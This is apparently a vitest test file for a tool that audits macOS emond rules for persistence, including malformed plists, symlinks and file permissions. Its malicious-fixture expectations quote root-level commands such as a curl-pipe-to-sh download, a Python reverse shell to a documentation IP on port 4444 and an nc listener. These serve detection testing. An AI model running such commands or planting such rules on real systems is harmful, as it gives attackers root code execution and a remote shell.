import { chownSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { auditEmond, type AuditReport } from '../../src/audit/audit.js';
import type { AuditFinding } from '../../src/audit/findings.js';
import { UsageError } from '../../src/errors.js';
import { toXmlPlist } from '../../src/plist/index.js';
import { addEmptyDir, fixtureTree, setMode } from './fixture-tree.js';

const isRoot = process.getuid?.() === 0;

/** Findings without the ownership ones, which depend on who runs the tests (see 'file ownership'). */
function contentFindings(report: AuditReport): AuditFinding[] {
  return report.findings.filter((f) => isRoot || f.kind !== 'writable-rule-file');
}

describe('auditEmond: a Mac as Apple ships it (macOS 10.7–12)', () => {
  const root = fixtureTree('apple-sample');
  addEmptyDir(root, 'private/var/db/emondClients');
  const report = auditEmond({ root, now: new Date('2024-06-01T00:00:00Z') });

  it('reads the configuration and the sample rule', () => {
    expect(report.auditedAt).toBe('2024-06-01T00:00:00.000Z');
    expect(report.config).toMatchObject({ path: '/etc/emond.d/emond.plist', status: 'present', format: 'xml' });
    expect(report.config.additionalRulesPaths).toEqual([]);
    expect(report.ruleDirectories).toEqual([
      expect.objectContaining({ path: '/etc/emond.d/rules', origin: 'default', status: 'present' }),
    ]);
    expect(report.ruleFiles).toHaveLength(1);
    const [file] = report.ruleFiles;
    expect(file).toMatchObject({ path: '/etc/emond.d/rules/SampleRules.plist', status: 'ok', format: 'xml', problems: [] });
    expect(file?.rules).toEqual([
      expect.objectContaining({
        index: 0,
        name: 'sample rule',
        enabled: false,
        eventTypes: ['startup'],
        allowPartialCriterionMatch: false,
        criterion: [{ operator: 'True' }],
        problems: [],
      }),
    ]);
    expect(file?.rules[0]?.actions).toEqual([
      expect.objectContaining({ type: 'Log', message: 'Event Monitor started at ${builtin:now}' }),
    ]);
  });

  it('finds nothing to worry about', () => {
    expect(report.clients).toMatchObject({ status: 'present', entries: [] });
    expect(contentFindings(report)).toEqual([]);
    expect(report.summary).toMatchObject({ ruleFiles: 1, rules: 1, enabledRules: 0, commandActions: 0, clientEntries: 0 });
  });
});

describe('auditEmond: emond persistence', () => {
  const report = auditEmond({ root: fixtureTree('malicious') });

  it('follows additionalRulesPaths from a binary emond.plist', () => {
    expect(report.config).toMatchObject({ status: 'present', format: 'binary' });
    expect(report.config.additionalRulesPaths).toEqual(['/Library/Caches/com.apple.emond']);
    expect(report.ruleDirectories.map((d) => [d.path, d.origin, d.status])).toEqual([
      ['/etc/emond.d/rules', 'default', 'present'],
      ['/Library/Caches/com.apple.emond', 'additionalRulesPaths', 'present'],
    ]);
    expect(report.ruleFiles.map((f) => [f.path, f.format])).toEqual([
      ['/etc/emond.d/rules/SampleRules.plist', 'xml'],
      ['/etc/emond.d/rules/com.apple.softwareupdate.plist', 'binary'],
      ['/Library/Caches/com.apple.emond/login.plist', 'xml'],
    ]);
  });

  it('flags every command action with the command, arguments and user, most serious first', () => {
    const commands = report.findings.filter((f) => f.kind === 'command-action');
    expect(commands.map((f) => [f.severity, f.path, f.rule?.name, f.rule?.enabled, f.action])).toEqual([
      [
        'high',
        '/etc/emond.d/rules/com.apple.softwareupdate.plist',
        'softwareupdate check',
        true,
        { index: 1, type: 'RunCommand', command: '/bin/sh', arguments: ['-c', 'curl -fsSL https://203.0.113.7/p | sh'], user: 'root' },
      ],
      [
        'high',
        '/Library/Caches/com.apple.emond/login.plist',
        'login helper',
        true,
        {
          index: 0,
          type: 'RunCommand',
          command: '/usr/bin/python3',
          arguments: ['-c', 'import socket,os; s=socket.create_connection(("198.51.100.9", 4444)); os.dup2(s.fileno(), 0)'],
          user: 'root',
        },
      ],
      ['medium', '/Library/Caches/com.apple.emond/login.plist', 'dormant', false, { index: 0, type: 'RunCommand', command: '/tmp/.update', arguments: [] }],
    ]);
    expect(commands[0]?.message).toBe(
      `rule "softwareupdate check" (enabled; on startup) runs /bin/sh -c 'curl -fsSL https://203.0.113.7/p | sh' as root`,
    );
    expect(commands[0]?.rule?.eventTypes).toEqual(['startup']);
  });

  it('reports what is in emondClients', () => {
    expect(report.clients.status).toBe('present');
    expect(report.clients.entries).toEqual([
      expect.objectContaining({ name: 'com.apple.softwareupdate', type: 'file', facts: expect.objectContaining({ size: 0 }) }),
    ]);
    expect(report.findings).toContainEqual(
      expect.objectContaining({ kind: 'emond-clients', severity: 'medium', path: '/private/var/db/emondClients' }),
    );
    expect(report.findings).toContainEqual(
      expect.objectContaining({ kind: 'additional-rules-path', severity: 'low' }),
    );
    expect(report.summary).toMatchObject({ rules: 4, enabledRules: 2, commandActions: 3, clientEntries: 1 });
    expect(report.summary.findingsBySeverity).toMatchObject({ high: 2 });
  });
});

describe('auditEmond: broken files are reported, never fatal', () => {
  const report = auditEmond({ root: fixtureTree('broken') });
  const byName = (name: string) => report.ruleFiles.find((f) => f.path.endsWith(`/${name}`));

  it('reports the malformed configuration and still reads the default rules folder', () => {
    expect(report.config.status).toBe('malformed');
    expect(report.config.error).toMatch(/invalid XML plist at line 7, column 1/);
    expect(report.ruleDirectories.map((d) => d.status)).toEqual(['present']);
  });

  it.each([
    ['truncated.plist', /invalid XML plist at line \d+, column \d+: unexpected end of document/],
    ['empty.plist', /the file is empty/],
    ['json.plist', /neither an XML nor a binary/],
    ['bad-binary.plist', /malformed bplist at byte \d+: the offset table lies outside the file/],
  ])('%s is malformed', (name, error) => {
    const file = byName(name);
    expect(file?.status).toBe('malformed');
    expect(file?.error).toMatch(error);
    expect(report.findings).toContainEqual(
      expect.objectContaining({ kind: 'malformed-rule-file', severity: 'low', path: `/etc/emond.d/rules/${name}` }),
    );
  });

  it('still finds commands in plists of the wrong shape', () => {
    const single = byName('single-dict.plist');
    expect(single?.problems).toEqual(['the file holds a single dict, not an array of rules (read as one rule)']);
    expect(report.findings).toContainEqual(
      expect.objectContaining({
        kind: 'command-action',
        severity: 'high',
        path: '/etc/emond.d/rules/single-dict.plist',
        action: expect.objectContaining({ command: '/bin/bash', arguments: ['/Users/Shared/.x.sh'] }),
      }),
    );
    const odd = byName('odd-shapes.plist');
    expect(odd?.problems).toEqual(['item 3 is a string, not a rule dict']);
    expect(odd?.rules.map((r) => r.problems)).toEqual([
      [
        'eventTypes is a string, not an array',
        'enabled is a string, not a boolean',
        'actions is a single dict, not an array (read as one action)',
        'action 0 arguments is a string, not an array',
      ],
      ['action 0 has no type', 'action 0 arguments[1] is an integer, not a string', 'action 1 is a string, not a dict'],
      ['action 0 is a RunCommand without a command'],
    ]);
    const commands = report.findings.filter((f) => f.path.endsWith('odd-shapes.plist') && f.kind === 'command-action');
    expect(commands.map((f) => [f.severity, f.action?.command, f.action?.arguments])).toEqual([
      ['high', '/usr/bin/osascript', ['-e beep']],
      ['high', '/usr/bin/nc', ['-l', '4444']],
      ['medium', undefined, []],
    ]);
  });

  it('keeps control characters from rule names in the data (escaping is for display)', () => {
    expect(byName('odd-shapes.plist')?.rules[0]?.name).toBe('evil\u001b[2Jname');
  });
});

describe('auditEmond: the file system', () => {
  it('macOS 13+ without emond: everything absent, nothing found', () => {
    const report = auditEmond({ root: fixtureTree() });
    expect(report.config.status).toBe('absent');
    expect(report.ruleDirectories[0]?.status).toBe('absent');
    expect(report.clients.status).toBe('absent');
    expect(report.findings).toEqual([]);
  });

  it('follows a symlinked rule file as emond would and says where it points', () => {
    const root = fixtureTree();
    mkdirSync(path.join(root, 'etc/emond.d/rules'), { recursive: true });
    mkdirSync(path.join(root, 'Users/Shared'), { recursive: true });
    const target = path.join(root, 'Users/Shared/r.plist');
    writeFileSync(target, readFileSync(path.join(fixtureTree('malicious'), 'etc/emond.d/rules/com.apple.softwareupdate.plist')));
    symlinkSync(target, path.join(root, 'etc/emond.d/rules/link.plist'));
    symlinkSync(path.join(root, 'nowhere'), path.join(root, 'etc/emond.d/rules/dangling.plist'));
    mkdirSync(path.join(root, 'etc/emond.d/rules/subfolder'));
    const report = auditEmond({ root });
    const [dangling, link, subfolder] = report.ruleFiles;
    expect(dangling).toMatchObject({ status: 'unreadable', error: 'a symlink to nothing' });
    expect(link).toMatchObject({ status: 'ok', format: 'binary', facts: { symlinkTarget: target } });
    expect(link?.rules[0]?.name).toBe('softwareupdate check');
    expect(subfolder?.status).toBe('not-a-file');
  });

  it('flags rule files others can write', () => {
    const root = fixtureTree('apple-sample');
    setMode(root, 'etc/emond.d/rules/SampleRules.plist', 0o666);
    const report = auditEmond({ root });
    expect(report.findings).toContainEqual(
      expect.objectContaining({ kind: 'writable-rule-file', severity: 'medium', facts: expect.objectContaining({ mode: '0666' }) }),
    );
  });

  it('file ownership: a rule file not owned by root is flagged', () => {
    const root = fixtureTree('apple-sample');
    const file = path.join(root, 'etc/emond.d/rules/SampleRules.plist');
    // As root the tests can hand the file to someone else; otherwise it already is someone else's.
    if (isRoot) chownSync(file, 501, 20);
    const report = auditEmond({ root });
    const finding = report.findings.find((f) => f.kind === 'writable-rule-file');
    expect(finding?.message).toMatch(/owned by uid [1-9]\d* with mode 0644/);
  });

  it('reads every kind of additionalRulesPaths entry and reports the odd ones', () => {
    const root = fixtureTree('apple-sample');
    writeFileSync(
      path.join(root, 'etc/emond.d/emond.plist'),
      toXmlPlist({ config: { additionalRulesPaths: ['/etc/emond.d/emond.plist', '/missing/', '/etc/emond.d/rules', 'relative', 42] } }),
    );
    const report = auditEmond({ root });
    expect(report.config.additionalRulesPaths).toEqual(['/etc/emond.d/emond.plist', '/missing/', '/etc/emond.d/rules']);
    expect(report.config.problems).toEqual(['additionalRulesPaths entry "relative" is not absolute', 'additionalRulesPaths holds an integer']);
    // The default folder is listed once even when the configuration repeats it.
    expect(report.ruleDirectories.map((d) => [d.path, d.status])).toEqual([
      ['/etc/emond.d/rules', 'present'],
      ['/etc/emond.d/emond.plist', 'not-a-directory'],
      ['/missing', 'absent'],
    ]);
    expect(report.findings).toContainEqual(expect.objectContaining({ kind: 'malformed-config', severity: 'low' }));
  });

  it('refuses a --root that is not a folder with a usage error', () => {
    expect(() => auditEmond({ root: '/nonexistent/volume' })).toThrow(UsageError);
  });
});
